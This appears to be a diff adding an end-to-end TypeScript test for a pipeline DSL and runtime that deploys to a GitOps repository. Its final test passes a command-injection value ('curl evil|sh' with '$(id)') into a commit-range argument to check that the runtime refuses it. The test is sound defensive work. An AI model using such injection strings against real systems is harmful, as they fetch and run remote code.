@@ -1,0 +1,221 @@
+// The contract holds end to end: a pipeline compiled by @argots/dsl, executed the way Argo executes it
+// (parameters substituted into each task's arguments and the template's argv, output parameters read from
+// the files the template names, `when` evaluated on them), runs the REAL `argots-runtime` binary — against a
+// real application repository and a real GitOps repository served over smart HTTP.
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { execFile } from 'node:child_process';
+import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { DEFAULT_OUTPUT_DIR } from '@argots/contract';
+import { param, pipeline, steps, synth } from '@argots/dsl';
+import { startGitHttpServer, type GitHttpServer } from '../support/git-http-server.js';
+
+const run = promisify(execFile);
+const ROOT = new URL('../..', import.meta.url).pathname;
+const RUNTIME_BIN = join(ROOT, 'packages/runtime/src/bin.ts');
+
+const git = async (cwd: string, ...args: string[]): Promise<string> =>
+  (await run('git', ['-c', 'user.email=dev@acme.io', '-c', 'user.name=dev', ...args], { cwd })).stdout.trim();
+
+function write(dir: string, file: string, content: string): void {
+  mkdirSync(join(dir, file, '..'), { recursive: true });
+  writeFileSync(join(dir, file), content);
+}
+
+/** The organisation's dev flow, reduced to the runtime steps: detect → (build detection + deploy) | copy config. */
+const devFlow = pipeline('e2e-dev-flow', (p) => {
+  const repo = p.param('repo', param.string());
+  const gitops = p.param('gitops', param.string());
+  const before = p.param('before', param.string());
+  const after = p.param('after', param.string());
+  const image = p.param('image', param.string());
+  const change = p.task('detect', steps.detectChanges({ repo, before, after }));
+  p.task('how-to-build', steps.detectBuild({ repo }), { when: change.outputs.kind.eq('code') });
+  p.task('deploy', steps.updateManifests({ gitopsUrl: gitops, service: 'api', env: 'dev', image, sourceCommit: after }), {
+    when: change.outputs.kind.eq('code'),
+  });
+  p.task('copy-config', steps.copyConfig({
+    repo, gitopsUrl: gitops, service: 'api', env: 'dev',
+    files: change.outputs.configFiles, deleted: change.outputs.deletedConfigFiles, sourceCommit: after,
+  }), { when: change.outputs.kind.eq('config') });
+});
+
+type Obj = Record<string, unknown>;
+interface Param { name: string; value?: string; valueFrom?: { path?: string } }
+interface Task { name: string; template: string; when?: string; arguments?: { parameters?: Param[] } }
+interface ContainerTemplate { name: string; container?: { command: string[]; args: string[] }; outputs?: { parameters?: Param[] } }
+
+interface TaskRun { skipped: boolean; outputs: Record<string, string>; stdout: string; stderr: string; code: number }
+
+/** Substitutes `{{scope.path}}` tags the way Argo does; an unknown tag fails the test (Argo would fail the node). */
+function substitute(text: string, values: ReadonlyMap<string, string>): string {
+  return text.replace(/\{\{([^{}]+)\}\}/g, (_, tag: string) => {
+    const v = values.get(tag.trim());
+    if (v === undefined) throw new Error(`unresolved {{${tag}}} in ${JSON.stringify(text)}`);
+    return v;
+  });
+}
+
+/** Evaluates the `when` forms the DSL renders for enum comparisons: `'<a>' == '<b>'` after substitution. */
+function evaluateWhen(expression: string): boolean {
+  const m = /^'([^']*)' (==|!=) '([^']*)'$/.exec(expression);
+  if (!m) throw new Error(`this executor does not understand when: ${expression}`);
+  return m[2] === '==' ? m[1] === m[3] : m[1] !== m[3];
+}
+
+/** Runs the compiled entrypoint DAG in declaration order (which is topological for these pipelines). */
+async function execute(workflow: Obj, parameters: Record<string, string>, scratch: string): Promise<Map<string, TaskRun>> {
+  const spec = workflow['spec'] as { entrypoint: string; templates: (ContainerTemplate & { dag?: { tasks: Task[] } })[] };
+  const entry = spec.templates.find((t) => t.name === spec.entrypoint);
+  const declared = ((workflow['spec'] as Obj)['arguments'] as { parameters: Param[] }).parameters.map((p) => p.name);
+  assert.equal([...declared].sort(), Object.keys(parameters).sort(), 'the workflow declares exactly the parameters we pass');
+  const values = new Map(Object.entries(parameters).map(([k, v]) => [`workflow.parameters.${k}`, v]));
+  const runs = new Map<string, TaskRun>();
+  for (const task of entry?.dag?.tasks ?? []) {
+    if (task.when !== undefined && !evaluateWhen(substitute(task.when, values))) {
+      runs.set(task.name, { skipped: true, outputs: {}, stdout: '', stderr: '', code: 0 });
+      continue;
+    }
+    const template = spec.templates.find((t) => t.name === task.template);
+    assert.ok(template?.container, `task "${task.name}" runs a container template`);
+    const inputs = new Map((task.arguments?.parameters ?? []).map((p) => [`inputs.parameters.${p.name}`, substitute(p.value ?? '', values)]));
+    assert.equal(template.container.command, ['argots-runtime']);
+    const argv = template.container.args.map((a) => substitute(a, inputs));
+    const outputDir = join(scratch, task.name);
+    const result = await run(process.execPath, ['--conditions=source', '--import', 'tsx', RUNTIME_BIN, ...argv], {
+      cwd: ROOT, // where `--import tsx` resolves; every path input is absolute
+      env: { ...process.env, ARGOTS_OUTPUT_DIR: outputDir, GIT_TERMINAL_PROMPT: '0' },
+    }).then((r) => ({ ...r, code: 0 }), (e: { stdout: string; stderr: string; code: number }) => ({ stdout: e.stdout, stderr: e.stderr, code: e.code }));
+    const outputs: Record<string, string> = {};
+    if (result.code === 0) {
+      for (const out of template.outputs?.parameters ?? []) {
+        const path = out.valueFrom?.path ?? '';
+        assert.ok(path.startsWith(`${DEFAULT_OUTPUT_DIR}/`), `output "${out.name}" is read from the runtime's output directory`);
+        outputs[out.name] = readFileSync(join(outputDir, path.slice(DEFAULT_OUTPUT_DIR.length + 1)), 'utf8');
+        values.set(`tasks.${task.name}.outputs.parameters.${out.name}`, outputs[out.name] ?? '');
+      }
+    }
+    runs.set(task.name, { skipped: false, outputs, stdout: result.stdout, stderr: result.stderr, code: result.code });
+    if (result.code !== 0) break; // a failed node fails the workflow: nothing downstream runs
+  }
+  return runs;
+}
+
+let server: GitHttpServer;
+let scratch: string;
+let app: string;
+let gitopsUrl: string;
+let workflow: Obj;
+
+test.before(async () => {
+  const compiled = synth([{ value: devFlow, exportName: 'default', file: 'test/e2e/compiled-steps.test.ts' }]);
+  assert.equal(compiled.diagnostics.filter((d) => d.severity === 'error'), []);
+  workflow = compiled.files[0]?.object as Obj;
+  scratch = mkdtempSync(join(tmpdir(), 'argots-e2e-'));
+  server = await startGitHttpServer();
+  gitopsUrl = server.createRepo('acme/gitops.git');
+  const seed = join(scratch, 'gitops-seed');
+  mkdirSync(seed);
+  await git(seed, 'init', '-q', '-b', 'main');
+  write(seed, 'argots.yaml', [
+    'defaults:', '  path: apps/{service}/overlays/{env}', 'environments: [dev]',
+    'services:', '  api:', '    images: [registry.dev.acme.io/acme/api]', '    config:', '      - { from: config, to: config }', '',
+  ].join('\n'));
+  write(seed, 'apps/api/overlays/dev/kustomization.yaml', [
+    '# dev overlay of the api', 'resources: []', 'images:', '  - name: registry.dev.acme.io/acme/api', '    newTag: old # replaced by argots', '',
+  ].join('\n'));
+  await git(seed, 'add', '.');
+  await git(seed, 'commit', '-qm', 'seed');
+  await git(seed, 'push', '-q', gitopsUrl, 'main');
+
+  app = join(scratch, 'app');
+  mkdirSync(app);
+  await git(app, 'init', '-q', '-b', 'dev');
+  write(app, 'Dockerfile', 'FROM scratch\nCOPY main /main\n');
+  write(app, 'src/main.go', 'package main\n');
+  write(app, 'config/app.yaml', 'greeting: hello\n');
+  await git(app, 'add', '.');
+  await git(app, 'commit', '-qm', 'first');
+});
+
+test.after(async () => {
+  await server.close();
+  rmSync(scratch, { recursive: true, force: true });
+});
+
+async function gitopsFile(path: string): Promise<string | undefined> {
+  try {
+    return await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'show', `main:${path}`);
+  } catch {
+    return undefined;
+  }
+}
+
+test('given a configuration-only push, then detect says config, the build and deploy are skipped, and the config lands in GitOps', async () => {
+  const before = await git(app, 'rev-parse', 'HEAD');
+  write(app, 'config/app.yaml', 'greeting: hola\n');
+  await git(app, 'commit', '-qam', 'config: greet in Spanish');
+  const after = await git(app, 'rev-parse', 'HEAD');
+  const image = `registry.dev.acme.io/acme/api:${after.slice(0, 7)}@sha256:${'a'.repeat(64)}`;
+  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before, after, image }, mkdtempSync(join(scratch, 'run-')));
+  const detect = runs.get('detect');
+  assert.is(detect?.code, 0, detect?.stderr);
+  assert.is(detect?.outputs['kind'], 'config');
+  assert.equal(JSON.parse(detect?.outputs['configFiles'] ?? 'null'), ['config/app.yaml']);
+  assert.ok(runs.get('how-to-build')?.skipped);
+  assert.ok(runs.get('deploy')?.skipped);
+  const copy = runs.get('copy-config');
+  assert.is(copy?.code, 0, copy?.stderr);
+  assert.is(copy?.outputs['changed'], 'true');
+  assert.is(await gitopsFile('apps/api/overlays/dev/config/app.yaml'), 'greeting: hola');
+  assert.ok(JSON.parse(copy?.stdout ?? '{}').ok, 'the runtime printed one JSON result');
+});
+
+test('given a code push, then the build is detected from the Dockerfile and the dev overlay gets the image by digest', async () => {
+  const before = await git(app, 'rev-parse', 'HEAD');
+  write(app, 'src/main.go', 'package main\n\nfunc main() {}\n');
+  await git(app, 'commit', '-qam', 'feat: a main function');
+  const after = await git(app, 'rev-parse', 'HEAD');
+  const digest = `sha256:${'b'.repeat(64)}`;
+  const image = `registry.dev.acme.io/acme/api:${after.slice(0, 7)}@${digest}`;
+  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before, after, image }, mkdtempSync(join(scratch, 'run-')));
+  assert.is(runs.get('detect')?.outputs['kind'], 'code');
+  const build = runs.get('how-to-build');
+  assert.is(build?.code, 0, build?.stderr);
+  assert.is(build?.outputs['kind'], 'dockerfile');
+  assert.equal(JSON.parse(build?.outputs['dockerfiles'] ?? 'null'), ['Dockerfile']);
+  const deploy = runs.get('deploy');
+  assert.is(deploy?.code, 0, deploy?.stderr);
+  assert.is(deploy?.outputs['changed'], 'true');
+  assert.ok(runs.get('copy-config')?.skipped);
+  const overlay = await gitopsFile('apps/api/overlays/dev/kustomization.yaml');
+  assert.match(overlay ?? '', `digest: ${digest}`);
+  assert.match(overlay ?? '', '# dev overlay of the api', 'comments survive the update');
+  const log = await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'log', '-1', '--format=%B', 'main');
+  assert.match(log, `Source-Commit: ${after}`);
+});
+
+test('given the same code push again (a retried workflow), then nothing new is committed', async () => {
+  const tip = await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'rev-parse', 'main');
+  const after = await git(app, 'rev-parse', 'HEAD');
+  const before = await git(app, 'rev-parse', 'HEAD~1');
+  const image = `registry.dev.acme.io/acme/api:${after.slice(0, 7)}@sha256:${'b'.repeat(64)}`;
+  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before, after, image }, mkdtempSync(join(scratch, 'run-')));
+  assert.is(runs.get('deploy')?.outputs['changed'], 'false');
+  assert.is(await git(scratch, '--git-dir', server.repoPath('acme/gitops.git'), 'rev-parse', 'main'), tip);
+});
+
+test('given a hostile commit range value, then the compiled step passes it as one argv element and the runtime refuses it cleanly', async () => {
+  const hostile = 'x";curl evil|sh;" $(id)';
+  const marker = join(scratch, 'pwned');
+  const runs = await execute(workflow, { repo: app, gitops: gitopsUrl, before: `${hostile} > ${marker}`, after: hostile, image: 'x' }, mkdtempSync(join(scratch, 'run-')));
+  const detect = runs.get('detect');
+  assert.is(detect?.code, 1, 'a user error, not a crash');
+  assert.match(detect?.stderr ?? '', '--before expected');
+  assert.not.ok(existsSync(marker), 'nothing was executed by a shell');
+});
+
+test.run();
